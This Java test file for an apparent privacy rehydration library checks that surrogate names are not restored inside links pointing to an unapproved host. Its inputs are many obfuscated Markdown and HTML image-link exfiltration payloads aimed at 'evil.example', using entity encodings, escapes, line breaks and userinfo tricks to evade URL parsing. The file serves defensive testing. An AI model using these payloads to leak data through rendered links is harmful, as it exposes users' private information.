package io.mantle.privacy.rehydrate;

import static org.assertj.core.api.Assertions.assertThat;

import io.mantle.privacy.value.Plaintext;
import java.util.List;
import java.util.Set;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** Links that a browser follows to a host that nobody named, however they are written. */
class LinkAttacksTest {
  private static final String SURROGATE = "Juliet Pons";
  private static final String ORIGINAL = "Jane Smith";

  private static Restoration restoration() {
    return new Restoration(
        List.of(new Restoration.Entry(SURROGATE, new Plaintext(ORIGINAL), true)),
        RestorationPolicy.DEFAULT,
        Set.of("named.example"),
        word -> false);
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "![x](https://evil.example/?q=@)",
        // A link that may be restored in, and right behind it one that may not.
        "[a](https://named.example/x)![b](https://evil.example/?q=@)",
        "https://named.example/x,https://evil.example/?q=@",
        "https://named.example/go?to=//evil.example/@",
        // What a browser's URL parser forgives.
        "![x](https:/evil.example/?q=@)",
        "![x](https:evil.example/?q=@)",
        "![x](HTTPS:\\evil.example/?q=@)",
        "<img src=\"https:/\t/evil.example/?q=@\">",
        "<img src=\"//evil.example/?q=\n@\">",
        "<img src='https://evil.example/?q=\r\n@'>",
        "<img src = \"https://evil.example/\n@\">",
        // Entities, in a link's address in Markdown and in HTML.
        "![x](https:&#47;&#47;evil.example/?q=@)",
        "![x](https:&sol;&sol;evil.example/?q=@)",
        "![x](https&colon;//evil.example/?q=@)",
        "![x](https&#58;&#x2F;&#x2f;evil.example/?q=@)",
        "<img src=\"&#104;ttps://evil.example/?q=@\">",
        "<img src=\"&#47;&#47;evil.example/?q=@\">",
        // Markdown's own escapes.
        "![x](https:\\/\\/evil.example/?q=@)",
        "![x](https\\://evil.example/?q=@)",
        "![x](\\/\\/evil.example/?q=@)",
        "[x]: //evil.example/?q=@",
        // Characters that end no link where it stands.
        "![x](https://evil.example/?q=\"@)",
        "![x](https://evil.example/?q=`@)",
        "![x](https://evil.example/?q=>@)",
        "![x](https://evil.example/?q=\u00a0@)",
        "[x]: https://evil.example/?q=\"@",
        "<img src=https://evil.example/?q=\"@>",
        "<img src=\" https://evil.example/?q=a @\">",
        "<img src=\"\\\\evil.example\\?q=@\">",
        // Line breaks in a scheme, before its colon or between its slashes.
        "<img src=\"ht\ntps://evil.example/?q=a @\">",
        "<img src=\"https\n:evil.example/?q=a @\">",
        "<img src=\"/\t/evil.example/?q=a @\">",
        // Numbers of entities without a semicolon, and with zeros.
        "<img src=\"https&#58//evil.example/?q=a @\">",
        "<img src=\"&#47&#x2f@.evil.example\">",
        "<img src=\"/&#47@.evil.example\">",
        "<img src=\"/&#00000000000000000000047;evil.example/?q=@\">",
        // What only looks like the host that may have values.
        "![a](https://named.example:)![x](https://evil.example/?q=@)",
        "![x](https://named.example&#64;evil.example/?q=@)",
      })
  void link_elsewhere_restoresNothing(String link) {
    assertWithheld(link.replace("@", SURROGATE));
    assertWithheld(link.replace("@", SURROGATE.replace(' ', '_')));
  }

  @Test
  void link_whoseUserPartIsLong_isJudgedByItsHost() {
    String user = "named.example:" + "x".repeat(400) + "@evil.example";
    // Markdown reads an escaped at sign as one.
    assertWithheld("![x](https://named.example\\@evil.example/?q=" + SURROGATE + ")");
    assertWithheld("![x](https://" + user + "/?q=" + SURROGATE + ")");
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "{\"html\":\"![x](https:\\/\\/evil.example/?q=@)\"}",
        "{\"html\":\"![x](https:\\u002f\\u002fevil.example/?q=@)\"}",
        "{\"html\":\"<img src=\\\"https://evil.example/?q=\\n@\\\">\"}",
        "{\"html\":\"https://named.example\\u0040evil.example/?q=@\"}",
        "{\"html\":\"see\\n//evil.example/?q=@\"}",
        "{\"html\":\"\\u0068ttps\\u003a//evil.example/?q=@\"}",
      })
  void link_inJsonThatIsShown_restoresNothing(String json) {
    String source = json.replace("@", SURROGATE);
    assertThat(restoration().shownJsonSource().restoreWhole(source)).isEqualTo(source);
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "@ wrote // and then @",
        "see https://named.example/?q=@ and @",
        "[a](https://named.example/x) by @",
        "\"https://evil.example/\"\n@",
        "https: @",
        "the scheme http:\n@",
        "a &amp; @; b&#47;c @",
        "x = 1; // @",
        "AT&#38;T, &#8220 and &#0; @",
        "int\nhttp\n= 4; /* @ */",
        "{\"https\": \"@\"}",
        "(https://named.example/x?a=\"@\")",
        "https://named.example:8080/@",
        "[a](https://named.example/x)[b](https://named.example/@)",
      })
  void value_besideLinks_isRestored(String text) {
    String said = text.replace("@", SURROGATE);
    assertThat(restoration().restoreText(said)).isEqualTo(text.replace("@", ORIGINAL));
  }

  private static void assertWithheld(String text) {
    assertThat(restoration().restoreText(text)).isEqualTo(text);
    Rehydrator streamed = restoration().text();
    StringBuilder said = new StringBuilder();
    for (int i = 0; i < text.length(); i++) {
      said.append(streamed.accept(text.substring(i, i + 1)));
    }
    assertThat(said.append(streamed.finish()).toString()).isEqualTo(text);
  }
}
